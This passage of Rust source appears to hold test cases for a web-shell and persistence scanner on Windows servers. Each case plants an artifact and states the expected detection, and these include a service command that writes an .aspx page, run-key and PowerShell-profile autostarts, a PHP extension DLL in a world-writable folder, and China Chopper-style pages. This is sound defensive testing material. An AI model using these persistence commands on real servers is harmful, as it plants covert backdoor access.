            plain_task(server, "cmd.exe", r"/c cd /d C:\inetpub\wwwroot\img && update.bat");
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_in_web_folder", level: "medium" },
        ordinary: Some(|server| {
            plain_task(server, "cmd.exe", r"/c cd /d C:\inetpub\wwwroot\app && php artisan schedule:run")
        }),
    },
    Situation {
        id: "services/short_command",
        what: "A service writes a page with an abbreviated PowerShell command",
        plant: |server| {
            let line = r#"%COMSPEC% /b /c start powershell -c "sc C:\inetpub\wwwroot\q.aspx 1""#;
            let hive = Written::new("ROOT").set(r"ControlSet001\Services\Q", "ImagePath", line);
            server.write(r"C:\Windows\System32\config\SYSTEM", hive.bytes());
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\config\SYSTEM",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "services/run_key_of_account",
        what: "A run key of one account writes a page",
        plant: |server| {
            let line = format!("cmd /c {AGAIN}");
            let hive = Written::new("ROOT").set(r"Software\Microsoft\Windows\CurrentVersion\Run", "Update", &line);
            server.write(r"C:\Users\a\NTUSER.DAT", hive.bytes());
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Users\a\NTUSER.DAT",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(|server| {
            let line = r#""C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#;
            let hive = Written::new("ROOT").set(r"Software\Microsoft\Windows\CurrentVersion\Run", "OneDrive", line);
            server.write(r"C:\Users\a\NTUSER.DAT", hive.bytes());
        }),
    },
    Situation {
        id: "scripts/of_account",
        what: "The PowerShell profile of one account writes a page",
        plant: |server| {
            server.write(
                r"C:\Users\Administrator\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
                format!("{AGAIN}\r\n"),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Users\Administrator\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Users\Administrator\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
                "Set-Location C:\\Scripts\r\n",
            )
        }),
    },
    Situation {
        id: "scripts/of_remote_shell",
        what: "A script in Exchange's `RemoteScripts` folder writes a page",
        plant: |server| {
            server.write(
                r"C:\Program Files\Microsoft\Exchange Server\V15\RemoteScripts\Update.ps1",
                format!("{AGAIN}\r\n"),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Program Files\Microsoft\Exchange Server\V15\RemoteScripts\Update.ps1",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Program Files\Microsoft\Exchange Server\V15\RemoteScripts\Update.ps1",
                "Set-Location C:\\Scripts\r\n",
            )
        }),
    },
    Situation {
        id: "servers/nginx_one_line",
        what: "nginx serves a folder from a one-line configuration",
        plant: |server| {
            server.write(
                r"C:\nginx\conf\nginx.conf",
                "http { include sites/*.conf; server { listen 80; root C:/data/n; } }\n",
            );
            server.shell(r"C:\data\n\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\n\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(r"C:\nginx\conf\nginx.conf", "http { server { listen 80; root html; } }\n");
            server.write(r"C:\nginx\html\index.html", "<html></html>");
        }),
    },
    Situation {
        id: "servers/nginx_included_alias",
        what: "nginx serves a folder named in an included file",
        plant: |server| {
            server.write(r"C:\nginx\conf\nginx.conf", "http { include sites/*.conf; }\n");
            server.write(r"C:\nginx\conf\sites\a.conf", "server { location /q/ { alias \"C:/data/a b/\"; } }\n");
            server.shell(r"C:\data\a b\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\a b\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/tomcat_base",
        what: "A Tomcat instance is stored apart from the Tomcat installation",
        plant: |server| {
            server.write(r"C:\tomcat\bin\setenv.bat", "set \"CATALINA_BASE=C:\\data\\t\"\r\n");
            server.shell(r"C:\data\t\webapps\ROOT\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\t\webapps\ROOT\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(r"C:\tomcat\bin\setenv.bat", "set \"JAVA_OPTS=-Xmx1g\"\r\n");
            server.write(r"C:\tomcat\webapps\ROOT\index.html", "<html></html>");
        }),
    },
    Situation {
        id: "servers/tomcat_base_of_service",
        what: "The Tomcat service names its instance folder in the registry only",
        plant: |server| {
            let hive = Written::new("ROOT").set(
                r"Apache Software Foundation\Procrun 2.0\Tomcat9\Parameters\Java",
                "Options",
                r"-Dcatalina.base=C:\data\s",
            );
            server.write(SOFTWARE, hive.bytes());
            server.shell(r"C:\data\s\webapps\ROOT\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\s\webapps\ROOT\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/linux_disk_elsewhere",
        what: "A WSL distribution was imported into a folder outside all user profiles",
        plant: |server| {
            server.write(r"C:\wsl\u\ext4.vhdx", "vhdxfile");
        },
        more: &[],
        answer: Answer::Gap { kind: "image_not_opened", words: "ext4.vhdx" },
        ordinary: Some(|server| server.write(r"C:\WindowsImageBackup\EX1\Backup\1.vhdx", "vhdxfile")),
    },
    Situation {
        id: "servers/linux_disk_of_registry",
        what: "Only a user's registry names the location of the WSL disk",
        plant: |server| {
            let hive = Written::new("ROOT").set(
                r"Software\Microsoft\Windows\CurrentVersion\Lxss\{0}",
                "BasePath",
                r"\\?\C:\data\a\b\c\d",
            );
            server.write(r"C:\Users\a\NTUSER.DAT", hive.bytes());
            server.write(r"C:\data\a\b\c\d\ext4.vhdx", "vhdxfile");
        },
        more: &[],
        answer: Answer::Gap { kind: "image_not_opened", words: "ext4.vhdx" },
        ordinary: None,
    },
    Situation {
        id: "servers/php_extension",
        what: "PHP loads an extension DLL from a world-writable folder",
        plant: |server| {
            server.write(r"C:\PHP\php.ini", "extension=C:\\ProgramData\\q.dll\r\n");
            server.write(r"C:\ProgramData\q.dll", "MZ");
        },
        more: &[],
        answer: Answer::Finding { path: r"C:\PHP\php.ini", reason: "config/autostart_in_drop_folder", level: "medium" },
        ordinary: Some(|server| {
            let ini = "extension=curl\r\nextension_dir = \"C:\\PHP\\ext\"\r\nzend_extension=C:\\PHP\\ext\\php_opcache.dll\r\n";
            server.write(r"C:\PHP\php.ini", ini);
        }),
    },
    Situation {
        id: "earlier/windows_old",
        what: "A page in `Windows.old`",
        plant: |server| server.shell(r"C:\Windows.old\inetpub\wwwroot\x.aspx"),
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows.old\inetpub\wwwroot\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: Some(|server| {
            let logon = server.text(&format!(r"{}\errorFE.aspx", super::AUTH));
            let place =
                r"C:\Windows.old\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorFE.aspx";
            server.write(place, logon);
            server.write(r"C:\Windows.old\inetpub\wwwroot\iisstart.htm", "<html></html>");
        }),
    },
    Situation {
        id: "earlier/setup_folder",
        what: "A page in a Windows setup folder",
        plant: |server| server.shell(r"C:\$WINDOWS.~BT\Sources\x.ashx.aspx"),
        more: &[],
        answer: Answer::Finding {
            path: r"C:\$WINDOWS.~BT\Sources\x.ashx.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "earlier/compiled_page",
        what: "A compiled page in `Windows.old`",
        plant: |server| {
            let folder =
                r"C:\Windows.old\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\2";
            server.write(&format!(r"{folder}\App_Web_q.dll"), compiled("near"));
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows.old\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\2\App_Web_q.dll",
            reason: "behaviour/loads_request_program",
            level: "medium",
        },
        ordinary: Some(|server| {
            let folder =
                r"C:\Windows.old\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\2";
            server.write(&format!(r"{folder}\App_Web_q.dll"), compiled("library"));
        }),
    },
    Situation {
        id: "earlier/library_of_site",
        what: "A site's DLL in `Windows.old`",
        plant: |server| server.write(r"C:\Windows.old\inetpub\wwwroot\bin\Tools.dll", compiled("near")),
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows.old\inetpub\wwwroot\bin\Tools.dll",
            reason: "behaviour/loads_request_program",
            level: "medium",
        },
        ordinary: Some(|server| server.write(r"C:\Windows.old\inetpub\wwwroot\bin\Tools.dll", compiled("library"))),
    },
    Situation {
        id: "servers/tomcat_compiled",
        what: "A Tomcat page is deleted, and its compiled form is left",
        plant: |server| {
            server.write(r"C:\tomcat\conf\server.xml", "<Server><Host appBase=\"webapps\"/></Server>");
            server.write(r"C:\tomcat\webapps\ROOT\index.jsp", "<html></html>");
            server.write(r"C:\tomcat\work\Catalina\localhost\ROOT\org\apache\jsp\x_jsp.java", "class x_jsp {}");
        },
        more: &[],
        answer: Answer::Gap { kind: "partially_examined", words: "x_jsp.java" },
        ordinary: Some(|server| {
            server.write(r"C:\tomcat\conf\server.xml", "<Server><Host appBase=\"webapps\"/></Server>");
            server.write(r"C:\tomcat\webapps\ROOT\a b\in-dex.jsp", "<html></html>");
            let folder = r"C:\tomcat\work\Catalina\localhost\ROOT\org\apache\jsp\a_0020b";
            server.write(&format!(r"{folder}\in_002ddex_jsp.java"), "class x_jsp {}");
        }),
    },
];
